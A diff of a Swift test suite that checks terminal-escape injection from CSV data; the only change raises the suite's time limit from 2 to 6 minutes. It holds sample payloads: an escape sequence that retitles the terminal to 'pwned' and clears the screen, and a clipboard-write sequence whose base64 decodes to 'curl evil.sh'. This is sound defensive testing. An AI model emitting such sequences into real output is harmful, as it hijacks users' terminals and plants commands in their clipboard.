@@ -4,7 +4,7 @@ import Testing
 /// Issue #16 item 5: nothing from the data reaches the terminal raw. A CSV carrying escape
 /// sequences is refused with line numbers; data planted straight into the file (as someone with
 /// file access could) prints neutralised by every command, JSON keeping it as escapes.
-@Suite(.timeLimit(.minutes(2)))
+@Suite(.timeLimit(.minutes(6)))
 struct InjectionTests {
     static let retitleAndClear = "\u{1B}]0;pwned\u{07}\u{1B}[2J"
     static let clipboard = "\u{1B}]52;c;Y3VybCBldmlsLnNo\u{07}"
